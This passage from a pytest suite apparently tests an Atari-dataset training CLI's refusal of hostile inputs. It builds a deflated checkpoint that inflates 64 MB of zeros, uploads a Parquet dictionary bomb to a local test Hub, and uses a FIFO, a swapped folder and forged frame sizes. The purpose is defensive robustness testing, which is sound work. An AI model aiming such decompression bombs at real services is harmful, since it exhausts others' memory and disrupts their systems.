    assert code == 2 and "state.pt" in err, err


def test_a_state_pt_that_inflates_is_refused_before_it_is_read(data, checkpoint, tmp_path):
    """torch.save stores every member as is; torch.load inflates a deflated one all the same, so
    64 MB of zeros deflated to 64 KB were read (a reviewer's 11.5 MB made a 2 GB peak)."""
    import io
    import zipfile

    run = tmp_path / "run"
    shutil.copytree(checkpoint.parent, run)
    state = torch.load(run / "state.pt", weights_only=True)
    state["padding"] = torch.zeros(16 << 20)
    buf = io.BytesIO()
    torch.save(state, buf)
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(run / "state.pt", "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
    assert (run / "state.pt").stat().st_size < (16 << 20)  # 64 MB of zeros beside 10 MB of weights
    argv = ["train", "--data", data, "--out", run, *TRAIN]
    code, err = check_promises(main, argv, sandbox=tmp_path, target=run)
    assert code == 2 and "state.pt" in err and "compressed" in err, err


def test_a_fifo_as_state_pt_is_one_line_not_a_wait(data, checkpoint, tmp_path):
    import os

    run = tmp_path / "run"
    shutil.copytree(checkpoint.parent, run)
    (run / "state.pt").unlink()
    os.mkfifo(run / "state.pt")
    argv = ["train", "--data", data, "--out", run, *TRAIN]
    done, got = returns_within(60, lambda: check_promises(main, argv, sandbox=tmp_path, target=run), [run / "state.pt"])
    assert done, "waited on the FIFO"
    code, err = got
    assert code == 2 and "state.pt" in err, err


def test_generate_into_a_root_that_is_a_file_is_one_line(tmp_path):
    from atari_data.cli import main as data_main

    root = tmp_path / "afile"
    root.write_text("mine\n")
    argv = ["generate", "--root", root, "--games", "Pong", "--train-frames", "4", "--baseline-episodes", "0"]
    code, err = check_promises(data_main, argv, sandbox=tmp_path, target=None)
    assert code == 2 and "--root" in err and root.read_text() == "mine\n", err


HUB_CLIENT = """
import contextlib, hashlib, io, json, sys
import numpy as np
from atari_data.errors import AtariDataError
from atari_data.torch import AtariDataset
from laya_policy.cli import main
repo, config, out = sys.argv[1:4]
got = {}
try:
    got["rows"] = [[r["id"], r["label"], hashlib.md5(np.ascontiguousarray(r["image"])).hexdigest()]
                   for r in AtariDataset(repo, config)]
except AtariDataError as e:
    got["refused"] = str(e)
if out != "-":
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        got["train"] = main(["train", "--data", repo, "--out", out, *sys.argv[4:]])
    got["train_stderr"] = err.getvalue()
print(json.dumps(got))
"""


def rows_of(repo, config) -> list:
    """What HUB_CLIENT prints as ``rows``, read here (a local folder needs no Hub)."""
    import hashlib

    from atari_data.torch import AtariDataset

    return [
        [r["id"], r["label"], hashlib.md5(np.ascontiguousarray(r["image"])).hexdigest()]
        for r in AtariDataset(repo, config)
    ]


class _Hub:
    """A test Hub and a client environment of its own (cache included) to run Python in."""

    def __init__(self, server, home):

        self.server = server
        self.env = server.client_env(home)

    def run(self, *args, offline: bool = False):
        import subprocess
        import sys

        env = {**self.env, "HF_HUB_OFFLINE": str(int(offline)), "HF_DATASETS_OFFLINE": str(int(offline))}
        return subprocess.run([sys.executable, *map(str, args)], env=env, capture_output=True, text=True, timeout=300)

    def upload(self, folder, repo_id: str) -> None:
        """As anyone could: plain huggingface_hub, not our publish (which checks first)."""
        code = (
            "import sys; from huggingface_hub import HfApi; api = HfApi(); "
            "api.create_repo(sys.argv[2], repo_type='dataset'); "
            "api.upload_folder(folder_path=sys.argv[1], repo_id=sys.argv[2], repo_type='dataset')"
        )
        done = self.run("-c", code, folder, repo_id)
        assert done.returncode == 0, done.stderr[-2000:]

    def client(self, repo_id: str, config: str, out="-", offline: bool = False) -> dict:
        """HUB_CLIENT's findings: AtariDataset's rows (or why it refused), then train's exit code and
        standard error when ``out`` is a folder."""
        # the reference CNN: what is read is the subject, and its process starts without transformers
        done = self.run("-c", HUB_CLIENT, repo_id, config, out, *TRAIN, "--model", "cnn", offline=offline)
        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]
        return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.fixture
def hub(tmp_path):
    from ..hub_server import HubServer

    with HubServer(tmp_path / "hub") as server:
        yield _Hub(server, tmp_path / "hf")


@pytest.mark.slow
def test_a_hub_dataset_is_fetched_by_config_read_and_trained_on_online_and_offline(data, hub, tmp_path):
    """Read by its Hub id, a packed dataset gives the rows its folder gives; only the card, the
    asked config's Parquet files and its game's meta file (its frames' size) are fetched; train reads
    it; offline, both read the cached copy."""
    from atari_data.publish.pack import PackConfig, pack

    packed = tmp_path / "packed"
    pack(PackConfig(root=str(data), out=str(packed)))
    hub.upload(packed, "me/atari")
    config = f"{next((packed / 'data').glob('*/Pong')).parent.name}-Pong"
    local = rows_of(packed, config)
    online = hub.client("me/atari", config, tmp_path / "run")
    assert online.get("rows") == local and online["train"] == 0, online
    assert not bars_drawn(online["train_stderr"]), "datasets' or the Hub client's bars, into a log"
    snapshot = next((tmp_path / "hf" / "hub").glob("datasets--me--atari/snapshots/*"))
    got = sorted(str(p.relative_to(snapshot)) for p in snapshot.rglob("*") if p.is_file())
    fetched = [*packed.glob("data/*/Pong/*.parquet"), *packed.glob("meta/*/Pong.json")]
    assert got == ["README.md", *sorted(str(p.relative_to(packed)) for p in fetched)]
    offline = hub.client("me/atari", config, tmp_path / "run2", offline=True)
    assert offline.get("rows") == local and offline["train"] == 0, offline
    # a cached shard cut short was refused on every rerun, online too, naming no cache (an outside review)
    blob = next(snapshot.glob("data/*/Pong/train-*.parquet")).resolve()
    whole = blob.read_bytes()
    blob.write_bytes(whole[: len(whole) // 2])
    cut = hub.client("me/atari", config)
    assert f"remove {snapshot.parent.parent} to fetch it again" in cut.get("refused", ""), cut
    blob.write_bytes(whole)
    next(snapshot.glob("data/*/Pong/train-*.parquet")).unlink()  # a cached copy that lacks a file: huggingface_hub says
    partial = hub.client("me/atari", config, offline=True)
    assert "incomplete" in partial.get("refused", ""), partial
    assert not [u for u in hub.server.unknown if "/datasets/" in u], hub.server.unknown


@pytest.mark.slow
def test_a_hub_dataset_is_checked_before_datasets_reads_it(data, hub, tmp_path):
    """A dataset someone else uploaded to the Hub holding a Parquet dictionary bomb: read by its
    Hub id, it is refused before datasets expands it, by the torch dataset and by train alike, as a
    local folder is."""
    from atari_data.publish.pack import PackConfig, pack

    from ..atari_data.test_hostile_inputs import dictionary_bomb

    packed = tmp_path / "packed"
    pack(PackConfig(root=str(data), out=str(packed), formats=("parquet",)))
    shard = dictionary_bomb(packed)
    hub.upload(packed, "evil/atari")
    got = hub.client("evil/atari", f"{shard.parent.parent.name}-Pong", tmp_path / "run")
    assert shard.name in got.get("refused", "") and "inflates" in got["refused"], got
    lines = got["train_stderr"].strip().splitlines()
    assert got["train"] == 2 and len(lines) == 1, got
    assert shard.name in lines[0] and "inflates" in lines[0], lines
    assert not (tmp_path / "run").exists()


def test_a_write_that_fails_midway_leaves_no_temporary(checkpoint, tmp_path):
    """A checkpoint or file written through a temporary name removes it when the write fails or is
    interrupted (a Ctrl-C, a SIGTERM raised as one): an outside review found `.best.tmp/` and
    `.state.pt.tmp` left by a SIGTERM during the write. Here the failure is a training record that
    JSON cannot write, and data that is not bytes."""
    from atari_data.layout import write_atomic
    from laya_policy.checkpoint import load_checkpoint, save_checkpoint

    policy, cfg = load_checkpoint(checkpoint)
    with pytest.raises(TypeError):
        save_checkpoint(policy, cfg, tmp_path / "best", training={"x": object()})
    with pytest.raises(TypeError):
        write_atomic(tmp_path / "log.jsonl", "not bytes")  # type: ignore[arg-type]
    assert sorted(p.name for p in tmp_path.iterdir()) == [], "a temporary was left"


def test_a_game_replaced_while_training_reads_it_is_refused(data, tmp_path):
    """train reads the records at start and the frames when a batch needs them: a game replaced in
    between (generate or dagger --force) paired the old labels with the new folder's frames, exit 0."""
    from atari_data.errors import AtariDataError
    from laya_policy.data import load_examples

    root = tmp_path / "root"
    shutil.copytree(data, root)
    examples = load_examples(str(root), "train")
    assert examples[0].frames(2)[1].shape == (210, 160, 3)
    game = next(root.glob("*/Pong"))
    os.chmod(game, 0o775)  # what is not a swap: a mode changed (chmod -R), a file added beside the game's
    (game / "notes.txt").write_text("mine")
    assert examples[2].frames(2)[1].shape == (210, 160, 3)
    shutil.copytree(game, game.with_name(".Pong.new"))
    os.rename(game, game.with_name(".Pong.old"))  # generate --force's swap: the new folder takes the name
    os.rename(game.with_name(".Pong.new"), game)
    with pytest.raises(AtariDataError, match=r"Pong: \(folder\): was replaced while it was read"):
        examples[1].frames(2)


@pytest.mark.parametrize("signum,code", [(2, 130), (15, 143)], ids=["SIGINT", "SIGTERM"])
def test_a_stop_while_the_command_line_is_built_is_one_line(tmp_path, signum, code):
    """Building the parser imports torch (about two seconds): a Ctrl-C then was a 26-47 line
    traceback, and a SIGTERM one ending in Terminated, exit 1."""
    import subprocess
    import sys
    import time

    from ..processes import as_from_a_terminal

    argv = [
        sys.executable,
        "-m",
        "laya_policy.cli",
        "push",
        tmp_path / "none",
        "--repo",
        "me/x",
        "--dry-run",
        tmp_path / "s",
    ]
    proc = subprocess.Popen(
        argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=as_from_a_terminal
    )
    maps = Path(f"/proc/{proc.pid}/maps")
    deadline = time.monotonic() + 60
    while proc.poll() is None and time.monotonic() < deadline:  # cli's own imports load no torch: the parser's do
        if "libtorch" in maps.read_text():
            break
        time.sleep(0.01)
    assert proc.poll() is None, "the command ended before torch was being imported"
    proc.send_signal(signum)
    _, err = proc.communicate(timeout=60)
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err[-3000:]
    # -signum: it said so, then died of the signal, as a shell's child may (seen once under xdist)
    assert proc.returncode in (code, -signum), (proc.returncode, err)


def test_a_parquet_frame_of_another_size_than_its_games_is_one_line(data, tmp_path):
    """From a hostile review: train took a frame at whatever size it declared (a 7.5 MB pack of PNGs
    declaring 4000x4000 trained as Pong at 10 GB), and frames of mixed sizes failed with numpy's
    'all input arrays must have the same shape', naming no file, row or field."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from atari_data.layout.png import encode_png
    from atari_data.publish.pack import PackConfig, pack

    packed = tmp_path / "packed"
    pack(PackConfig(root=str(data), out=str(packed), formats=("parquet",)))
    shard = next((packed / "data" / "expert2f" / "Pong").glob("train-*.parquet"))
    table = pq.read_table(shard)
    images = table.column("image").to_pylist()
    images[3] = {"bytes": encode_png(np.zeros((100, 100, 3), np.uint8)), "path": None}
    table = table.set_column(
        table.schema.get_field_index("image"), "image", pa.array(images, type=table.schema.field("image").type)
    )
    pq.write_table(table, shard)
    code, err = check_promises(
        main, ["train", "--data", packed, "--out", tmp_path / "run", *TRAIN], sandbox=tmp_path, target=tmp_path / "run"
    )
    assert code == 2 and ": expert2f/train row 3: image: declares 100x100 pixels, expected RGB 210x160" in err, err
